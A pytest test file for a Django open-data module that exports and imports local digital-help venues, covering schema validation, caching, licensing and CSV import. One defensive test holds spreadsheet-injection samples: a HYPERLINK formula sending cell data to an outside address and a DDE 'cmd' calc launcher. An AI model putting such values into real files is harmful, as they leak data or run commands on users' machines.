"""Open data: the exports follow the national schema (v1.0.1), state their licence, leave out private data;
the import updates by id, reports rejected rows, and a re-import of our own export changes nothing."""

import csv
import io
import json

import pytest
from django.core.cache import cache
from django.core.management import CommandError, call_command
from django.db import connection
from django.test.utils import CaptureQueriesContext
from icalendar import Calendar

from community.places import opendata, vocabulary
from community.places.models import CharterSettings, CharterSignature, Structure
from tests.community.places import factories as make

pytestmark = pytest.mark.django_db

EXPORTS = ["/carte/lieux.csv", "/carte/lieux.json", "/carte/lieux.geojson", "/carte/permanences.ics"]

FIELDS = [
    "name", "kind", "address", "address_complement", "postcode", "commune", "insee_code", "latitude", "longitude",
    "pivot", "website", "email", "phone", "services", "publics", "specific_support", "access_conditions",
    "support_modes", "national_programmes", "opening_hours", "summary", "description", "source", "slug",
    "referent_name", "referent_email", "is_public", "source_id",
]  # fmt: skip


@pytest.fixture
def places(home):
    full = make.structure(
        name="Centre social Dutemple",
        pivot="12345678901234",
        phone="03 53 01 10 20",
        email="accueil@dutemple.example.org",
        website="https://dutemple.example.org/",
        services=["demarches", "outils", "acces"],
        publics=["familles", "seniors"],
        specific_support=["surdite", "anglais"],
        access_conditions=["gratuit", "sous-condition"],
        support_modes=["individuel", "atelier", "distance"],
        national_programmes=["conseillers-numeriques"],
        summary="Aide aux démarches en ligne.",
        opening_hours="Mo-Fr 09:00-12:00,14:00-17:30; PH off",
    )
    association = make.structure(
        name="Le Lien numérique", kind="association", pivot="W372001234", commune="Cinq-Mars-la-Pile",
        postcode="37130", insee_code="37077", latitude=None, longitude=None, services=["outils"],
    )  # fmt: skip
    bare = make.structure(name="Sans SIRET", insee_code="", services=["acces"])
    hidden = make.structure(name="Lieu caché", is_public=False)
    make.permanence(association)
    return [full, association, bare, hidden]


def test_every_exported_row_validates_against_the_vendored_schema(places):
    schema = opendata.schema()
    assert schema["version"] == vocabulary.SCHEMA_VERSION == "1.0.1"
    rows = [opendata.row(s) for s in opendata.exported_structures()]
    assert len(rows) == 3
    for row in rows:
        assert opendata.validate(row) == [], row
        assert list(row) == [f["name"] for f in schema["fields"]]


def test_the_validator_catches_what_the_schema_forbids():
    row = {"id": "x", "pivot": "123", "nom": "", "commune": "A", "code_postal": "5930", "adresse": "1 rue",
           "date_maj": "2024-13-40", "services": "Aide aux démarches administratives|Cuisine", "latitude": "nord",
           "telephone": "03 27 00 00 00", "code_insee": "ABCDE"}  # fmt: skip
    problems = " ; ".join(opendata.validate(row))
    for expected in ["« pivot »", "« nom » est vide", "« code_postal »", "« date_maj »", "Cuisine", "« latitude »",
                     "« telephone »", "« code_insee »"]:  # fmt: skip
        assert expected in problems


def test_the_vocabulary_matches_the_schema_enumerations():
    patterns = {f["name"]: f["constraints"].get("pattern") for f in opendata.schema()["fields"]}
    for column, (_field, words) in opendata.MULTI_VALUED.items():
        import re

        every = vocabulary.SEPARATOR.join(value for _key, value, _label in words)
        assert re.fullmatch(patterns[column], every), column


def test_csv_export_has_the_schema_header_and_values(client, places):
    response = client.get("/carte/lieux.csv")
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    rows = list(csv.DictReader(io.StringIO(response.getvalue().decode("utf-8"))))
    assert [r["nom"] for r in rows] == ["Le Lien numérique", "Centre social Dutemple", "Sans SIRET"]
    dutemple = rows[1]
    assert dutemple["services"] == (
        "Aide aux démarches administratives|Maîtrise des outils numériques du quotidien|"
        "Accès internet et matériel informatique"
    )
    assert dutemple["telephone"] == "+33353011020"
    assert dutemple["pivot"] == "12345678901234"
    assert dutemple["typologie"] == "CS"
    assert dutemple["modalites_accompagnement"] == "Accompagnement individuel|Dans un atelier collectif|À distance"
    assert rows[2]["pivot"] == vocabulary.NO_PIVOT
    assert rows[0]["itinerance"] == "Fixe|Itinérant"  # runs mobile sessions
    assert all(opendata.validate(r) == [] for r in rows)


FORMULA = '=HYPERLINK("http://exemple.org/?"&A1,"Cliquez")'


def test_a_formula_never_reaches_a_spreadsheet_from_the_admin_or_an_import(client, home, tmp_path):
    make.structure(name=FORMULA, phone="03 53 01 10 20")
    path = tmp_path / "lieux.csv"
    path.write_text(
        "id;pivot;nom;commune;code_postal;adresse;date_maj;services;latitude;longitude;telephone;typologie\n"
        "cd37-002;W372001234;@SUM(1+1)*cmd|' /C calc'!A0;Langeais;37130;1 place du 14 Juillet;2024-05-01;"
        "Accès internet et matériel informatique;47.32;0.40;+33247240000;ASSO\n",
        encoding="utf-8",
    )
    call_command("import_lieux", str(path), stdout=io.StringIO())
    rows = list(csv.DictReader(io.StringIO(client.get("/carte/lieux.csv").getvalue().decode("utf-8"))))
    names = sorted(r["nom"] for r in rows)
    assert names == sorted(["'" + FORMULA, "'@SUM(1+1)*cmd|' /C calc'!A0"])
    assert {r["telephone"] for r in rows} == {"+33353011020", "+33247240000"}  # the schema's form, kept
    assert all(opendata.validate(r) == [] for r in rows)


def test_json_and_geojson_exports_state_the_licence_and_validate(client, places):
    document = json.loads(client.get("/carte/lieux.json").getvalue())
    assert "Licence Ouverte" in document["licence"] and "2.0" in document["licence"]
    assert document["schema"] == "LaMednum/standard-mediation-num 1.0.1"
    assert all(opendata.validate(place) == [] for place in document["lieux"])
    geo = client.get("/carte/lieux.geojson")
    assert geo["Content-Type"] == "application/geo+json"
    collection = json.loads(geo.getvalue())
    assert collection["type"] == "FeatureCollection" and "Licence Ouverte" in collection["licence"]
    located = [f for f in collection["features"] if f["geometry"]]
    assert located[0]["geometry"]["type"] == "Point"
    assert len(located) == 2  # the association without coordinates has a null geometry
    assert all(opendata.validate(f["properties"]) == [] for f in collection["features"])


@pytest.mark.parametrize("url", ["/carte/lieux.csv", "/carte/lieux.json", "/carte/lieux.geojson"])
def test_exports_leave_out_hidden_places_and_referents(client, places, url):
    response = client.get(url)
    assert response["Link"] == '<https://www.etalab.gouv.fr/licence-ouverte-open-licence>; rel="license"'
    text = response.getvalue().decode()
    assert "Lieu caché" not in text
    assert "Zoé Referente" not in text and "zoe.referente" not in text


@pytest.mark.parametrize("url", [*EXPORTS, "/carte/"])
def test_export_queries_do_not_grow_with_the_number_of_places(client, home, url):
    counts = []
    for total in (3, 30):
        while Structure.objects.count() < total:
            make.permanence(make.structure())
        client.get(url)
        cache.clear()  # the files are built again: what is counted is their making
        with CaptureQueriesContext(connection) as captured:
            assert client.get(url).status_code == 200
        counts.append(len(captured))
    assert counts[0] == counts[1]


def text(response):
    return response.getvalue().decode().replace("\r\n ", "")  # iCalendar folds its long lines


@pytest.mark.parametrize("url", EXPORTS)
def test_exports_are_served_from_the_cache_and_follow_a_change_at_once(client, places, url):
    association = places[1]  # the one with a mobile session: in every file
    client.get(url)
    with CaptureQueriesContext(connection) as captured:
        assert "Le Lien numérique" in text(client.get(url))
    assert len(captured) == 0
    association.name = "Le Lien numérique de Cinq-Mars"
    association.save()
    assert "Le Lien numérique de Cinq-Mars" in text(client.get(url))
    association.delete()
    assert "Le Lien numérique" not in text(client.get(url))


def test_the_cached_calendar_follows_a_new_session_and_a_cancelled_one(client, places):
    full = places[0]
    assert "Anzin" not in client.get("/carte/permanences.ics").getvalue().decode()
    session = make.permanence(full, commune="Anzin")
    assert "Permanence numérique à Anzin" in client.get("/carte/permanences.ics").getvalue().decode()
    session.is_cancelled = True
    session.save()
    assert "STATUS:CANCELLED" in client.get("/carte/permanences.ics").getvalue().decode()


def test_the_cached_files_link_to_the_address_they_were_asked_at(client, places, settings):
    settings.ALLOWED_HOSTS = ["testserver", "autre.example.org"]
    here = json.loads(client.get("/carte/lieux.geojson").getvalue())["features"][0]["properties"]["url"]
    there = json.loads(client.get("/carte/lieux.geojson", HTTP_HOST="autre.example.org").getvalue())
    assert here.startswith("http://testserver/carte/")
    assert there["features"][0]["properties"]["url"].startswith("http://autre.example.org/carte/")
    secure = json.loads(client.get("/carte/lieux.geojson", secure=True).getvalue())
    assert secure["features"][0]["properties"]["url"].startswith("https://testserver/carte/")


def test_a_change_of_the_charters_open_data_value_shows_at_once(client, places, home):
    CharterSignature.objects.create(structure=places[0], signed_on="2025-01-01", signatory_role="présidente")
    assert "ORDI 3.0" not in client.get("/carte/lieux.csv").getvalue().decode()
    charter = CharterSettings.for_site(home.get_site())
    charter.open_data_value = "formations_labels:ORDI 3.0"
    charter.save()
    assert "ORDI 3.0" in client.get("/carte/lieux.csv").getvalue().decode()


# --- Import ---------------------------------------------------------------------------------------------------------


def _snapshot():
    return {s.source_id: {f: getattr(s, f) for f in FIELDS + ["updated_at"]} for s in Structure.objects.all()}


@pytest.mark.parametrize("url, suffix", [("/carte/lieux.csv", ".csv"), ("/carte/lieux.json", ".json"),
                                         ("/carte/lieux.geojson", ".geojson")])  # fmt: skip
def test_reimporting_our_own_export_changes_nothing(client, places, tmp_path, url, suffix):
    path = tmp_path / f"export{suffix}"
    path.write_bytes(client.get(url).getvalue())
    before = _snapshot()
    out = io.StringIO()
    call_command("import_lieux", str(path), stdout=out)
    assert "0 créé, 0 mis à jour, 3 inchangés, 0 rejeté" in out.getvalue()
    assert _snapshot() == before


def test_import_creates_then_updates_by_id_without_duplicates(home, tmp_path):
    path = tmp_path / "lieux.csv"
    header = "id;pivot;nom;commune;code_postal;adresse;date_maj;services;latitude;longitude;telephone;typologie"
    path.write_text(
        "\ufeff" + header + "\n"
        "cd37-001;W372001234;Foyer rural;Château-la-Vallière;37330;12 rue de la Poste;2024-05-01;"
        "Aide aux démarches administratives|Accès internet et matériel informatique;47.5462;0.3241;+33247240000;ASSO\n",
        encoding="utf-8",
    )
    call_command("import_lieux", str(path), stdout=io.StringIO())
    place = Structure.objects.get(source_id="cd37-001")
    assert (place.name, place.kind, place.phone, place.pivot) == (
        "Foyer rural",
        "association",
        "02 47 24 00 00",
        "W372001234",
    )
    assert place.services == ["demarches", "acces"]
    assert place.slug == "foyer-rural"

    path.write_text(
        path.read_text(encoding="utf-8").replace("Foyer rural;", "Foyer rural de Château;"), encoding="utf-8"
    )
    out = io.StringIO()
    call_command("import_lieux", str(path), stdout=out)
    assert "0 créé, 1 mis à jour" in out.getvalue()
    assert Structure.objects.count() == 1
    assert Structure.objects.get().name == "Foyer rural de Château"


def test_import_reports_every_rejected_row_with_its_reason(home, tmp_path):
    path = tmp_path / "lieux.csv"
    path.write_text(
        "id,pivot,nom,commune,code_postal,adresse,date_maj,services\n"
        "ok-1,12345678901234,Bon lieu,Marly,59770,1 rue A,2024-01-01,Aide aux démarches administratives\n"
        "ko-1,12345678901234,,Marly,59770,1 rue A,2024-01-01,Aide aux démarches administratives\n"
        "ko-2,12345678901234,Mauvais code,Marly,5977,1 rue A,2024-01-01,Aide aux démarches administratives\n"
        "ko-3,12345678901234,Service inconnu,Marly,59770,1 rue A,2024-01-01,Cours de cuisine\n"
        "ok-1,12345678901234,Doublon,Marly,59770,1 rue A,2024-01-01,Aide aux démarches administratives\n",
        encoding="utf-8",
    )
    out, err = io.StringIO(), io.StringIO()
    call_command("import_lieux", str(path), stdout=out, stderr=err)
    errors = err.getvalue()
    assert "ligne 3 (id « ko-1 ») rejeté(e) : le champ obligatoire « nom » est vide" in errors
    assert "ligne 4 (id « ko-2 »)" in errors and "« code_postal »" in errors
    assert "ligne 5 (id « ko-3 »)" in errors and "valeur inconnue pour « services » : Cours de cuisine" in errors
    assert "ligne 6 (id « ok-1 »)" in errors and "plusieurs fois" in errors
    assert "1 créé, 0 mis à jour, 0 inchangé, 4 rejetés" in out.getvalue()
    assert list(Structure.objects.values_list("name", flat=True)) == ["Bon lieu"]


def test_dry_run_saves_nothing(home, tmp_path):
    path = tmp_path / "lieux.json"
    path.write_text(json.dumps([{"id": "a", "pivot": "00000000000000", "nom": "A", "commune": "Marly",
                                 "code_postal": "59770", "adresse": "1 rue", "date_maj": "2024-01-01",
                                 "services": "Accès internet et matériel informatique"}]))  # fmt: skip
    out = io.StringIO()
    call_command("import_lieux", str(path), "--dry-run", stdout=out)
    assert "[essai, rien n'est enregistré] 1 créé" in out.getvalue()
    assert not Structure.objects.exists()


def test_unreadable_files_are_refused(home, tmp_path):
    bad = tmp_path / "lieux.json"
    bad.write_text("{pas du json")
    with pytest.raises(CommandError, match="illisible"):
        call_command("import_lieux", str(bad))
    with pytest.raises(CommandError, match="introuvable"):
        call_command("import_lieux", str(tmp_path / "absent.csv"))


# --- Calendar -------------------------------------------------------------------------------------------------------


def test_permanences_feed_lists_upcoming_public_sessions_in_paris_time(client, places):
    full, _association, _bare, hidden = places
    make.permanence(full, days=-3, commune="Passée")
    make.permanence(hidden, days=2, commune="Cachée")
    response = client.get("/carte/permanences.ics")
    assert response["Content-Type"].startswith("text/calendar")
    calendar = Calendar.from_ical(response.getvalue())
    events = list(calendar.walk("VEVENT"))
    assert [str(e["summary"]) for e in events] == ["Permanence numérique à Couesmes (Le Lien numérique)"]
    assert events[0]["dtstart"].dt.tzinfo.key == "Europe/Paris"
    assert calendar.walk("VTIMEZONE")
